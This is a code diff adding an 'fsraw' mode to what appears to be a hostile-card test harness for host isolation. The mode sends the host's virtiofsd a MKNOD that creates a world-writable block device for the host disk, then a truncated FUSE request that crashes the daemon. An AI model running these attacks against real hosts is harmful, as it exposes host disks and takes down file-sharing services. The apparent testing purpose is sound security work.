@@ -15,7 +15,8 @@
  * overwritten with garbage, on one boot out of two: see punch_pool),
  * nonblock (O_NONBLOCK cleared on every fd it holds, then its doorbells and
  * DMA kicks flooded: see nonblock_flood), blkpage (a read of its disk
- * aimed at the device page in host memory: see blk_into_page).
+ * aimed at the device page in host memory: see blk_into_page), fsraw
+ * (FUSE requests of its own into its virtio-fs queue: see fs_raw).
  */
 #include <dirent.h>
 #include <errno.h>
@@ -25,6 +26,7 @@
 #include <linux/virtio_ids.h>
 #include <pthread.h>
 #include <sys/mount.h>
+#include <sys/sysmacros.h>
 #include <sys/stat.h>
 #include <linux/virtio_ring.h>
 #include <stdio.h>
@@ -263,6 +265,64 @@ static void blk_into_page(struct mic_hw_view *v, struct mic_vop_card *vc, struct
 		(unsigned long long)dp);
 }
 
+/* One FUSE request of the card's own making on queue q at descriptors
+ * head, head + 1 (device-readable in, device-writable out); the error the
+ * device answered, or 1 without an answer within a second. */
+static int fs_request(struct mic_hw_view *v, struct mic_vop_vq *q, uint16_t head, uint64_t in,
+		      const void *req, uint32_t len, uint64_t out)
+{
+	struct vring *vr = mic_vop_vq_vring(q);
+	memcpy(mic_cardmem(v, in, 4096), req, len);
+	struct fuse_out_header *oh = mic_cardmem(v, out, 4096);
+	memset(oh, 0, sizeof(*oh));
+	oh->error = 1;
+	uint16_t used = vr->used->idx;
+	vr->desc[head] = (struct vring_desc){ in, len, VRING_DESC_F_NEXT, (uint16_t)(head + 1) };
+	vr->desc[head + 1] = (struct vring_desc){ out, 4096, VRING_DESC_F_WRITE, 0 };
+	publish(vr, head);
+	mic_vop_vq_notify(q);
+	for (int i = 0; i < 100 && __atomic_load_n(&vr->used->idx, __ATOMIC_ACQUIRE) == used; i++)
+		usleep(10000);
+	return oh->error;
+}
+
+/*
+ * Drives its virtio-fs device without the card's kernel: an INIT, then a
+ * MKNOD of a block device (8:0) as root in the share's root, which only
+ * CAP_MKNOD in virtiofsd would let through, then a request shorter than a
+ * FUSE header, which virtiofsd does not survive.
+ */
+static void fs_raw(struct mic_hw_view *v, struct mic_vop_card *vc, struct mic_vop_cma *cma)
+{
+	struct mic_vop_cdev *d = mic_vop_card_find(vc, VIRTIO_ID_FS, 0);
+	struct mic_vop_vq *hq, *q;
+	uint64_t f, in, out;
+	if (!d || mic_vop_cdev_negotiate(d, MIC_VOP_CARD_TRANSPORT_FEATURES, &f) ||
+	    mic_vop_cdev_setup_vq(d, 0, 0, &hq) || mic_vop_cdev_setup_vq(d, 1, 0, &q) ||
+	    mic_vop_cdev_driver_ok(d) || mic_vop_cma_alloc(cma, 4096, &in) ||
+	    mic_vop_cma_alloc(cma, 4096, &out)) {
+		fprintf(stderr, "mic-hostile-card: no virtio-fs to attack\n");
+		return;
+	}
+	usleep(100000); /* let the host see DRIVER_OK first */
+	struct {
+		struct fuse_in_header h;
+		struct fuse_init_in i;
+	} init = { { sizeof(init), FUSE_INIT, 2, 0, 0, 0, 1, 0, 0 }, { .major = 7, .minor = 31 } };
+	int e = fs_request(v, q, 0, in, &init, sizeof(init), out);
+	fprintf(stderr, "mic-hostile-card: fs INIT answered %d\n", e);
+	struct {
+		struct fuse_in_header h;
+		struct fuse_mknod_in m;
+		char name[4];
+	} mk = { { sizeof(mk), FUSE_MKNOD, 4, FUSE_ROOT_ID, 0, 0, 1, 0, 0 },
+		 { .mode = S_IFBLK | 0666, .rdev = (uint32_t)makedev(8, 0) }, "sda" };
+	e = fs_request(v, q, 2, in, &mk, sizeof(mk), out);
+	fprintf(stderr, "mic-hostile-card: fs MKNOD of a block device answered %d\n", e);
+	fs_request(v, q, 4, in, &mk, 8, out);
+	fprintf(stderr, "mic-hostile-card: fs request of 8 bytes sent\n");
+}
+
 int main(void)
 {
 	struct mic_hw_view v;
@@ -324,6 +384,8 @@ int main(void)
 		uart_flood();
 	} else if (!strcmp(mode, "blkpage")) {
 		blk_into_page(&v, vc, cma);
+	} else if (!strcmp(mode, "fsraw")) {
+		fs_raw(&v, vc, cma);
 	}
 	mic_vop_vq_notify(tx);
 	for (;;)
